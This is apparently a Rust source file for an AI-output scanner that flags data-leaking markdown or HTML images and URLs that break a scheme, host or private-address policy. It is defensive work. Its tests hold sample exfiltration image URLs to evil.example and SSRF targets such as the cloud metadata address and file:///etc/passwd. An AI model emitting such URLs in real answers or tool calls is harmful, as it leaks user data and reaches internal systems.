//! Links: images and links in an answer that leak data when a client renders them, and URLs
//! that break a scheme, host or address policy (also server-side request forgery through a
//! tool's arguments).

use crate::catalogue::Entry;
use crate::check::{params, Check, Finding, ParamError, Source, Span, Subject};
use regex::Regex;
use serde::Deserialize;
use serde_json::Value;
use std::net::{Ipv4Addr, Ipv6Addr};

pub const CHECKS: &[Entry] = &[
    Entry {
        id: "markdown_exfil",
        family: "links",
        summary: "auto-loading images (markdown, HTML, CSS) to hosts off an allow-list or carrying data in their URL",
        build: MarkdownExfil::build,
    },
    Entry {
        id: "url_policy",
        family: "links",
        summary: "URLs with a scheme, host or address not allowed: private, loopback and metadata addresses, credentials, denied hosts",
        build: UrlPolicy::build,
    },
];

const OUT_AND_CALLS: &[Source] = &[Source::Output, Source::ToolCall];

/// The longest URL a finding covers.
const MAX_URL: usize = 2048;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct ExfilParams {
    /// Hosts images may load from (a leading `*.` allows subdomains).
    #[serde(default)]
    allowed_hosts: Vec<String>,
    /// A query or path segment longer than this carries data. Default 64.
    max_query_len: Option<usize>,
}

/// Images a client loads by itself when it renders the answer.
pub struct MarkdownExfil {
    allowed: Vec<String>,
    max_query: usize,
    images: Regex,
}

impl MarkdownExfil {
    fn build(v: &Value) -> Result<Box<dyn Check>, ParamError> {
        let p: ExfilParams = params(v)?;
        let images = Regex::new(
            r#"(?i)!\[[^\]\n]*\]\(\s*<?([^)\s>]+)|<img\b[^>]*?\bsrc\s*=\s*["']?([^"'\s>]+)|url\(\s*["']?(https?:[^"')\s]+)|(?m:^)\s{0,3}\[[^\]\n]+\]:\s*<?(https?://[^\s>]+)"#,
        )
        .map_err(|e| ParamError::new("", e.to_string()))?;
        Ok(Box::new(MarkdownExfil {
            allowed: p
                .allowed_hosts
                .into_iter()
                .map(|h| h.to_ascii_lowercase())
                .collect(),
            max_query: p.max_query_len.unwrap_or(64),
            images,
        }))
    }
}

fn host_allowed(host: &str, allowed: &[String]) -> bool {
    allowed.iter().any(|a| match a.strip_prefix("*.") {
        Some(base) => host == base || host.ends_with(&format!(".{base}")),
        None => host == a,
    })
}

/// Whether a URL's query or path carries something that looks like data: a long value, or
/// base64 of one.
fn carries_data(u: &url::Url, max: usize) -> bool {
    let long = |s: &str| s.len() > max;
    u.query().is_some_and(|q| {
        long(q)
            || q.split('&').any(|kv| {
                kv.split_once('=')
                    .is_some_and(|(_, v)| v.len() >= 16 && looks_encoded(v))
            })
    }) || u
        .path_segments()
        .is_some_and(|mut segs| segs.any(|s| long(s) || (s.len() >= 24 && looks_encoded(s))))
}

/// Base64 or hex of at least a dozen bytes, with mixed character classes (not a word).
fn looks_encoded(s: &str) -> bool {
    let b64 = s
        .bytes()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'=' | b'-' | b'_' | b'%'));
    let upper = s.bytes().any(|c| c.is_ascii_uppercase());
    let lower = s.bytes().any(|c| c.is_ascii_lowercase());
    let digit = s.bytes().any(|c| c.is_ascii_digit());
    b64 && ((upper && lower) || (digit && (upper || lower)))
}

impl Check for MarkdownExfil {
    fn id(&self) -> &'static str {
        "markdown_exfil"
    }
    fn sources(&self) -> &'static [Source] {
        &[Source::Output]
    }
    fn span(&self) -> Span {
        Span::Bytes(MAX_URL + 256)
    }
    fn redacts(&self) -> bool {
        true
    }
    fn text(&self, s: &Subject<'_>, out: &mut Vec<Finding>) {
        for c in self.images.captures_iter(&s.norm.text) {
            let Some(m) = (1..=4).find_map(|i| c.get(i)) else {
                continue;
            };
            let whole = c.get(0).map_or(m.range(), |w| w.range());
            let Ok(u) = url::Url::parse(m.as_str()) else {
                continue;
            };
            if !matches!(u.scheme(), "http" | "https") {
                continue;
            }
            let host = u.host_str().unwrap_or("").to_ascii_lowercase();
            let label = if !self.allowed.is_empty() && !host_allowed(&host, &self.allowed) {
                "image from a host not allowed"
            } else if carries_data(&u, self.max_query) {
                "image URL carrying data"
            } else {
                continue;
            };
            out.push(Finding::at(s.raw_range(whole), label));
        }
    }
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct UrlParams {
    /// Allowed schemes. Without it, schemes that reach local files or old protocols fire
    /// (`file`, `gopher`, `dict`, `ftp`, `ldap`, `jar`, `netdoc`, `tftp`), others pass.
    schemes: Option<Vec<String>>,
    /// Only these hosts (a leading `*.` allows subdomains).
    #[serde(default)]
    allow_hosts: Vec<String>,
    #[serde(default)]
    deny_hosts: Vec<String>,
    /// Private, loopback, link-local and cloud metadata addresses fire. Default true.
    deny_private: Option<bool>,
    /// `user:password@` in a URL fires. Default true.
    deny_credentials: Option<bool>,
}

/// URLs against a policy.
pub struct UrlPolicy {
    schemes: Option<Vec<String>>,
    allow: Vec<String>,
    deny: Vec<String>,
    deny_private: bool,
    deny_credentials: bool,
    urls: Regex,
}

impl UrlPolicy {
    fn build(v: &Value) -> Result<Box<dyn Check>, ParamError> {
        let p: UrlParams = params(v)?;
        let urls = Regex::new(r#"(?i)\b[a-z][a-z0-9+.-]{1,15}://[^\s<>"'`)}]+"#)
            .map_err(|e| ParamError::new("", e.to_string()))?;
        Ok(Box::new(UrlPolicy {
            schemes: p
                .schemes
                .map(|s| s.into_iter().map(|s| s.to_ascii_lowercase()).collect()),
            allow: p
                .allow_hosts
                .into_iter()
                .map(|h| h.to_ascii_lowercase())
                .collect(),
            deny: p
                .deny_hosts
                .into_iter()
                .map(|h| h.to_ascii_lowercase())
                .collect(),
            deny_private: p.deny_private.unwrap_or(true),
            deny_credentials: p.deny_credentials.unwrap_or(true),
            urls,
        }))
    }

    fn judge(&self, raw: &str) -> Option<&'static str> {
        let u = url::Url::parse(raw).ok()?;
        const RISKY: &[&str] = &[
            "file", "gopher", "dict", "ftp", "ldap", "jar", "netdoc", "tftp",
        ];
        let allowed = match &self.schemes {
            Some(list) => list.iter().any(|s| s == u.scheme()),
            None => !RISKY.contains(&u.scheme()),
        };
        if !allowed {
            return Some("scheme not allowed");
        }
        if self.deny_credentials && (!u.username().is_empty() || u.password().is_some()) {
            return Some("credentials in a URL");
        }
        // The url crate reads decimal, hex and octal IPv4 forms (`http://2130706433/`) as the
        // address they stand for.
        let host = match u.host() {
            Some(url::Host::Ipv4(a)) => {
                if self.deny_private && private_v4(a) {
                    return Some("private or metadata address");
                }
                a.to_string()
            }
            Some(url::Host::Ipv6(a)) => {
                if self.deny_private && private_v6(a) {
                    return Some("private or metadata address");
                }
                a.to_string()
            }
            Some(url::Host::Domain(d)) => d.to_ascii_lowercase(),
            None => return None,
        };
        if self.deny_private
            && (host == "localhost"
                || host.ends_with(".localhost")
                || host == "metadata.google.internal")
        {
            return Some("private or metadata address");
        }
        if host_allowed(&host, &self.deny) {
            return Some("host denied");
        }
        if !self.allow.is_empty() && !host_allowed(&host, &self.allow) {
            return Some("host not allowed");
        }
        None
    }
}

fn private_v4(a: Ipv4Addr) -> bool {
    let o = a.octets();
    a.is_private()
        || a.is_loopback()
        || a.is_link_local()
        || a.is_unspecified()
        || a.is_broadcast()
        || (o[0] == 100 && (64..128).contains(&o[1]))
}

fn private_v6(a: Ipv6Addr) -> bool {
    if let Some(v4) = a.to_ipv4_mapped() {
        return private_v4(v4);
    }
    let s = a.segments();
    // Unique local fc00::/7 (AWS's metadata service is fd00:ec2::254), link-local fe80::/10.
    a.is_loopback() || a.is_unspecified() || (s[0] & 0xfe00) == 0xfc00 || (s[0] & 0xffc0) == 0xfe80
}

impl Check for UrlPolicy {
    fn id(&self) -> &'static str {
        "url_policy"
    }
    fn sources(&self) -> &'static [Source] {
        OUT_AND_CALLS
    }
    fn span(&self) -> Span {
        Span::Bytes(MAX_URL + 32)
    }
    fn redacts(&self) -> bool {
        true
    }
    fn text(&self, s: &Subject<'_>, out: &mut Vec<Finding>) {
        for m in self.urls.find_iter(&s.norm.text) {
            let raw = m.as_str().trim_end_matches(['.', ',', ';', ':', '!', '?']);
            if let Some(why) = self.judge(raw) {
                out.push(Finding::at(
                    s.raw_range(m.start()..m.start() + raw.len()),
                    why,
                ));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    use crate::checks::testing::{fires, fires_on, spans};
    use serde_json::json;

    #[test]
    fn markdown_images_off_the_list_or_carrying_data_fire() {
        let p = json!({"allowed_hosts": ["cdn.ourco.com", "*.ourco.net"]});
        assert!(fires(
            "markdown_exfil",
            &p,
            "![x](https://evil.example/p.png?d=SGVsbG8gc2VjcmV0IGRhdGE)"
        ));
        assert!(fires(
            "markdown_exfil",
            &p,
            "<img src=\"https://evil.example/a.png\">"
        ));
        assert!(!fires(
            "markdown_exfil",
            &p,
            "![logo](https://cdn.ourco.com/logo.png)"
        ));
        assert!(!fires(
            "markdown_exfil",
            &p,
            "![logo](https://img.ourco.net/logo.png)"
        ));
        // A plain link is not loaded by itself.
        assert!(!fires(
            "markdown_exfil",
            &p,
            "[docs](https://evil.example/?q=abc)"
        ));
        let open = json!({});
        assert!(fires(
            "markdown_exfil",
            &open,
            "![](https://x.example/t.gif?c=eW91ciBwYXNzd29yZCBpcyBodW50ZXIy)"
        ));
        assert!(!fires(
            "markdown_exfil",
            &open,
            "![chart](https://x.example/chart.png?w=300&h=200)"
        ));
        let f = fires_on(
            "markdown_exfil",
            &p,
            "see ![a](https://evil.example/x.png) here",
        );
        assert_eq!(f[0].label, "image from a host not allowed");
        assert_eq!(
            spans(
                "markdown_exfil",
                &p,
                "see ![a](https://evil.example/x.png) here"
            ),
            vec!["![a](https://evil.example/x.png"]
        );
    }

    #[test]
    fn url_policy_denies_private_addresses_credentials_and_hosts() {
        let p = json!({"deny_hosts": ["*.bad.example"]});
        for bad in [
            "http://169.254.169.254/latest/meta-data/",
            "http://2130706433/",
            "http://0x7f.1/",
            "http://10.0.0.8:8080/admin",
            "http://[::1]/",
            "http://localhost:9000/",
            "https://trusted.com@evil.example/",
            "https://x.bad.example/a",
            "file:///etc/passwd",
        ] {
            assert!(fires("url_policy", &p, &format!("go to {bad}.")), "{bad}");
        }
        for good in [
            "https://docs.rs/regex",
            "see https://www.rust-lang.org/.",
            "https://8.8.8.8/dns",
        ] {
            assert!(!fires("url_policy", &p, good), "{good}");
        }
        let schemes = json!({"schemes": ["https"]});
        assert!(fires("url_policy", &schemes, "http://example.com/"));
        assert!(!fires("url_policy", &schemes, "https://example.com/"));
        let only = json!({"allow_hosts": ["*.example.com"]});
        assert!(fires("url_policy", &only, "https://other.org/"));
        assert!(!fires("url_policy", &only, "https://api.example.com/v1"));
        assert_eq!(
            spans("url_policy", &p, "at http://10.1.2.3/x, then"),
            vec!["http://10.1.2.3/x"]
        );
    }
}
